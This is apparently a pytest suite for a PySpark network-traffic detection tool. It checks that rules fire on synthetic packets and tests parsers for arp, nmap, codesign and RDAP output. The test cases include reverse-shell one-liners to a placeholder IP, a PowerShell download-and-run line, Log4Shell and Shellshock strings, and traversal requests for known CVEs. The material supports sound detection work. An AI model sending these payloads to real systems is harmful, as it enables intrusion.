from __future__ import annotations

import plistlib

import pytest
from pyspark.sql import functions as F

from tests.test_dissect import greeting, query
from tidewatch.plans import builtin, rules
from tidewatch.sources import dissect, tools

COLUMNS = "seq long, ts_us long, src_ip string, dst_ip string, protocol string, src_port int, dst_port int, tcp_flags int, payload binary, direction string"
IN, OUT = ("8.8.4.4", "10.0.0.5", "inbound"), ("10.0.0.5", "8.8.4.4", "outbound")


def web(line, headers=b"", body=b""):
    return line + b" HTTP/1.1\r\nHost: h.example\r\n" + headers + b"\r\n" + body


def looks(kind, payload):
    return (OUT, "udp", 53, 0, payload) if kind == "dns" else (OUT, "tcp", 443, 24, payload)


CASES = {
    **{f"OPEN-IN-{n}": (IN, "tcp", ports[0], 2, b"") for n, (ports, *_) in builtin.EXPOSED.items()},
    **{f"OPEN-OUT-{n}": (OUT, "tcp", ports[0], 2, b"") for n, (ports, *_) in builtin.LEAVING.items()},
    **{f"NAME-{n}": looks("tls", greeting("x." + d[0])) if where == "greeting" else looks("dns", query("x." + d[0])) for n, (d, _, _, where) in builtin.NAMED.items()},
    "NAME-cheap-zone": looks("dns", query("a.tk")), "NAME-null-record": looks("dns", query("x.y", 10)),
    "CVE-2017-9841": (IN, "tcp", 80, 24, web(b"POST /vendor/phpunit/phpunit/phpunit/src/Util/PHP/eval-stdin.php")), "CVE-2018-10561": (IN, "tcp", 80, 24, web(b"POST /GponForm/diag_Form?images/")),
    "CVE-2018-13379": (IN, "tcp", 80, 24, web(b"GET /remote/fgt_lang?lang=/../../../..//dev/cmdb/sslvpn_websession")), "CVE-2019-11510": (IN, "tcp", 80, 24, web(b"GET /dana-na/../dana/html5acc/guacamole/../../../etc/hosts")),
    "CVE-2019-19781": (IN, "tcp", 80, 24, web(b"GET /vpn/../vpns/cfg/smb.conf")), "CVE-2020-5902": (IN, "tcp", 80, 24, web(b"GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp")), "CVE-2021-3129": (IN, "tcp", 80, 24, web(b"POST /_ignition/execute-solution")),
    "CVE-2021-41773": (IN, "tcp", 80, 24, web(b"GET /cgi-bin/.%2e/.%2e/bin/sh")), "CVE-2022-1388": (IN, "tcp", 80, 24, web(b"POST /mgmt/tm/util/bash")), "CVE-2022-26134": (IN, "tcp", 80, 24, web(b"GET /%24%7B@java.lang.Runtime@getRuntime%7D/")),
    "CVE-2014-6271": (IN, "tcp", 80, 24, b"x: () { :; }; ping"), "CVE-2021-44228": (IN, "tcp", 80, 24, b"x ${${lower:j}ndi:ldap://x}"), "CVE-2022-22965": (IN, "tcp", 80, 24, b"class.module.classLoader.URLs=1"),
    "HEADER-basic-login": (OUT, "tcp", 80, 24, web(b"GET /", b"Authorization: Basic YWJjZA==\r\n")), "HEADER-house-login": (OUT, "tcp", 80, 24, web(b"GET /", b"Authorization: NTLM TlRMTVNTUAAB\r\n")),
    "HEADER-scripted-fetch": (OUT, "tcp", 80, 24, web(b"GET /", b"User-Agent: CertUtil URL Agent\r\n")), "HEADER-retired-browser": (OUT, "tcp", 80, 24, web(b"GET /", b"User-Agent: Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)\r\n")),
    "REQUEST-secret-file": (IN, "tcp", 80, 24, web(b"GET /.env")), "REQUEST-command": (IN, "tcp", 80, 24, web(b"GET /a?x=;wget%20http://x")), "REQUEST-password": (OUT, "tcp", 80, 24, web(b"POST /login", b"", b"user=a&password=b")),
    "REQUEST-program-by-number": (OUT, "tcp", 80, 24, b"GET /x.exe HTTP/1.1\r\nHost: 8.8.4.4\r\n\r\n"),
    "LOGIN-ftp": (OUT, "tcp", 21, 24, b"PASS hunter2\r\n"), "LOGIN-imap": (OUT, "tcp", 143, 24, b"a1 LOGIN me secret\r\n"), "LOGIN-pop3": (OUT, "tcp", 110, 24, b"PASS secret\r\n"), "LOGIN-smtp": (OUT, "tcp", 587, 24, b"AUTH PLAIN AGFiYwBkZWY=\r\n"),
    "SHELL-bash-socket": (IN, "tcp", 9, 24, b"bash -i >& /dev/tcp/1.2.3.4/99 0>&1"), "SHELL-netcat-exec": (IN, "tcp", 9, 24, b"nc 1.2.3.4 99 -e /bin/sh"), "SHELL-python-socket": (IN, "tcp", 9, 24, b"import socket,subprocess,os"),
    "SHELL-powershell-fetch": (IN, "tcp", 9, 24, b"IEX (x).DownloadString('u')"), "SHELL-powershell-encoded": (IN, "tcp", 9, 24, b"powershell -nop -enc " + b"QUJD" * 12), "SHELL-cmd-prompt": (OUT, "tcp", 9, 24, b"Microsoft Windows [Version 10.0.1]"),
    "SHELL-id-of-root": (OUT, "tcp", 9, 24, b"uid=0(root) gid=0(root)"), "SHELL-psexec": (IN, "tcp", 445, 24, b"xxP\0S\0E\0X\0E\0S\0V\0C\0xx"),
    "SPEAKS-irc": (OUT, "tcp", 6667, 24, b"NICK bob\r\n"), "SPEAKS-memcached-reflection": (OUT, "udp", 11211, 0, bytes(8) + b"stats\r\n"), "SPEAKS-ntp-monlist": (OUT, "udp", 123, 0, b"\x17\0\3\x2a\0"), "SPEAKS-smb1": (IN, "tcp", 445, 24, b"\0\0\0\x54\xffSMB\x72"),
    "SPEAKS-ssh1": (OUT, "tcp", 22, 24, b"SSH-1.5-old\r\n"), "SPEAKS-ssh-elsewhere": (OUT, "tcp", 443, 24, b"SSH-2.0-x\r\n"), "SPEAKS-stratum": (OUT, "tcp", 3333, 24, b'{"method": "mining.subscribe"}'), "SPEAKS-tftp": (OUT, "udp", 69, 0, b"\0\1boot\0octet\0"),
    "ANSWER-program": (IN, "tcp", 50_000, 24, b"HTTP/1.1 200 OK\r\n\r\nMZ" + bytes(70) + b"PE\0\0"),
}
QUIET = [(OUT, "tcp", 443, 24, greeting("example.org")), (OUT, "udp", 53, 0, query("www.example.org")), (OUT, "tcp", 80, 24, web(b"GET /index.html")), (OUT, "tcp", 443, 16, b""), (OUT, "tcp", 22, 24, b"SSH-2.0-ok\r\n")]


def packets(spark, cases):
    rows = [(i, i, ends[0], ends[1], protocol, 80 if payload.startswith(b"HTTP/") else 50_000, port, flags, bytearray(payload), ends[2]) for i, (ends, protocol, port, flags, payload) in enumerate(cases)]
    return dissect.dissected(spark.createDataFrame(rows, COLUMNS))


def test_every_rule_fires_on_its_case_and_none_on_quiet_traffic(spark):
    p = packets(spark, [*CASES.values(), *QUIET])
    good, problems = rules.validate(builtin.RULES, p.schema)
    assert not problems and len(good) == len(builtin.RULES)
    fired = {}
    for r in rules.hits(p, [g for g in good if not g.threshold]).collect():
        fired.setdefault(r.seq, set()).add(r.rule_id)
    assert {name for i, name in enumerate(CASES) if name not in fired.get(i, ())} == set()
    assert {r["id"] for r in builtin.RULES if "threshold" not in r} == set(CASES)
    assert [fired[i] for i in range(len(CASES), len(CASES) + len(QUIET)) if i in fired] == []


@pytest.mark.parametrize(("name", "case", "n"), [
    ("RATE-christmas-packets", (IN, "tcp", 80, 41, b""), 3), ("RATE-empty-packets", (IN, "tcp", 80, 0, b""), 5), ("RATE-open-questions", (OUT, "udp", 5355, 0, b"q"), 40), ("RATE-nameless-greetings", (OUT, "tcp", 443, 24, greeting("")), 6), ("RATE-big-pings", (OUT, "icmp", None, 0, b"x" * 300), 20),
    ("RATE-text-lookups", (OUT, "udp", 53, 0, query("a.b", 16)), 25), ("RATE-any-lookups", (OUT, "udp", 53, 0, query("a.b", 255)), 10), ("RATE-default-community", (OUT, "udp", 161, 0, b"0\x04\x06public"), 5),
])
def test_rules_with_a_threshold(spark, name, case, n):
    p = packets(spark, [case] * n)
    good, _ = rules.validate([r for r in builtin.RULES if r["id"] == name], p.schema)
    assert [(r.seq, r.hits) for r in rules.alerts(p, good).collect()] == [(n - 1, n)]


def test_greetings_in_pieces(spark):
    whole = greeting("split.example")
    rows = [(i, i * 1000, "10.0.0.1", "8.8.8.8", "tcp", 5, 443, 24, bytearray(part), None) for i, part in enumerate([whole[:20], whole[20:70], whole[70:]])]
    rows += [(9, 9, "10.0.0.2", "8.8.8.8", "tcp", 5, 443, 24, bytearray(whole[:30]), None), (10, 99_000_000, "10.0.0.2", "8.8.8.8", "tcp", 5, 443, 24, bytearray(whole[30:]), None)]
    got = dissect.whole_greetings(spark.createDataFrame(rows, COLUMNS)).collect()
    assert [(r.seq, r.tls.sni) for r in got] == [(2, "split.example")]


def lines(spark, text):
    return spark.createDataFrame([("s", i, v) for i, v in enumerate(text.splitlines())], "source string, line_no int, value string")


def test_neighbours_and_sockets(spark):
    arp = "? (10.0.0.5) at a:b:c:d:e:f on en0 ifscope [ethernet]\n? (10.0.0.255) at ff:ff:ff:ff:ff:ff on en0\n? (224.0.0.251) at 1:0:5e:0:0:fb on en0 permanent\n? (10.0.0.9) at (incomplete) on en0"
    assert [tuple(r) for r in tools.neighbours(lines(spark, arp)).collect()] == [("10.0.0.5", "0a:0b:0c:0d:0e:0f", "en0", False)]
    top = "time,,\nChat Helper.42,1,2\n   tcp4 10.0.0.5:5000<->8.8.8.8:443,en0\n   udp6 *.5353<->*.*,en0\nbad\n   tcp4 1.1.1.1:1<->2.2.2.2:2,\nx.7,\n   quic4 10.0.0.5:6<->9.9.9.9:443,"
    got = [(r.proto, r.transport, r.local_ip, r.local_port, r.remote_ip, r.remote_port, r.process, r.pid) for r in tools.sockets(lines(spark, top)).collect()]
    assert got == [("tcp", None, "10.0.0.5", 5000, "8.8.8.8", 443, "Chat Helper", 42), ("udp", None, None, 5353, None, None, "Chat Helper", 42), ("udp", "quic", "10.0.0.5", 6, "9.9.9.9", 443, "x", 7)]


def test_scans_signatures_and_items(spark, tmp_path):
    xml = '<nmaprun><host><status state="up"/><hostnames><hostname name="a.lan"/></hostnames><ports><port protocol="tcp" portid="22"><state state="open"/><service name="ssh" product="OpenSSH" version="9"/></port><port protocol="tcp" portid="23"><state state="closed"/></port></ports><os><osmatch name="Linux"/></os></host></nmaprun>'
    r = tools.scans(spark.createDataFrame([("s", xml)], "source string, xml string")).first()
    assert (r.up, r.hostnames, r.os, [tuple(p) for p in r.ports]) == (True, ["a.lan"], "Linux", [(22, "tcp", "open", "ssh", "OpenSSH 9")])
    texts = [("x: code object is not signed at all", True), ("Identifier=com.x\nflags=0x10000(runtime)\nAuthority=Developer ID Application: X (T)\nAuthority=Apple Root CA\nTeamIdentifier=T", False), ("Signature=adhoc\nTeamIdentifier=not set", False), ("error", True), ("Authority=Software Signing", False)]
    got = [r.s for r in spark.createDataFrame(texts, "t string, f boolean").select(tools.signature(F.col("t"), F.col("f")).alias("s")).collect()]
    assert [s.status for s in got] == ["unsigned", "developer_id", "adhoc", "unknown", "apple"] and got[1].hardened and got[1].team == "T" and got[2].team is None
    (tmp_path / "a.plist").write_bytes(plistlib.dumps({"Label": "l", "ProgramArguments": ["/bin/x", "-a"], "RunAtLoad": True}))
    (tmp_path / "b.plist").write_bytes(b"no list")
    items = tools.launch_files(spark, str(tmp_path)).collect()
    assert [(i.label, i.program, i.arguments, i.run_at_load, i.disabled) for i in items] == [("l", "/bin/x", ["-a"], True, False)]


def test_answers_of_services(spark):
    rdap = '{"name":"NET","country":"DE","cidr0_cidrs":[{"v4prefix":"1.2.3.0","length":24}],"events":[{"eventAction":"registration","eventDate":"2020-01-02T00:00:00Z"}],"entities":[{"roles":["registrant"],"vcardArray":["vcard",[["fn",{},"text","Owner"]]],"entities":[{"roles":["abuse"],"vcardArray":["vcard",[["fn",{},"text","A"],["email",{},"text","a@b.c"]]]}]}]}'
    r = spark.createDataFrame([(rdap,)], "j string").select(tools.registry(F.col("j")).alias("r")).first().r
    assert (r.network, r.cidr, r.owner, r.abuse, r.registered, r.updated) == ("NET", "1.2.3.0/24", "Owner", "a@b.c", "2020-01-02", None)
    e = [x.e for x in spark.createDataFrame([('{"ports":[22],"tags":["c2"]}',), ('{"detail":"none"}',), ("bad",)], "j string").select(tools.exposure(F.col("j")).alias("e")).collect()]
    assert [x.listed for x in e] == [True, False, False] and e[0].ports == [22]
    lists = spark.createDataFrame([('{"categories":{"Analytics":[{"Co":{"http://x":["A.example","b.example"]}}],"Other":[{"Z":{"u":["z.example"]}}],"Cryptomining":[{"M":{"u":["a.example"]}}]}}',)], "value string")
    assert {tuple(r) for r in tools.trackers(lists).collect()} == {("a.example", "Co (Analytics)"), ("b.example", "Co (Analytics)")}
    v = spark.createDataFrame([("files", '{"malicious": 5}'), ("files", '{"malicious": 0, "harmless": 9}'), ("abuse", '{"score": 30}'), ("abuse", "bad"), ("x", "{}")], "s string, j string").select(tools.verdict(F.col("s"), F.col("j")).alias("v"))
    assert [r.v for r in v.collect()] == ["malicious", "clean", "suspicious", "unknown", "unknown"]
    assert [r.v for r in spark.createDataFrame([("Verdict: Suspicious\nbecause",), ("?",)], "t string").select(tools.model_verdict(F.col("t")).alias("v")).collect()] == ["suspicious", "unknown"]
    p = tools.pivots(spark.createDataFrame([("asn", "AS13"), ("domain", "a b.example")], "kind string, value string")).collect()
    assert {r.link for r in p} == {"https://bgp.tools/as/13", "https://urlscan.io/domain/a+b.example", "https://crt.sh/?q=a+b.example"}
    assert tools.merged_config({"a": {"b": 1, "c": [1]}}, {"a": {"c": [2]}, "d": 3}) == {"a": {"b": 1, "c": [2]}, "d": 3}
    assert [(r.host, r.ip) for r in tools.resolvers(lines(spark, "dns.example # x\n1.1.1.1\n\n2606::1")).collect()] == [("dns.example", None), (None, "1.1.1.1"), (None, "2606::1")]


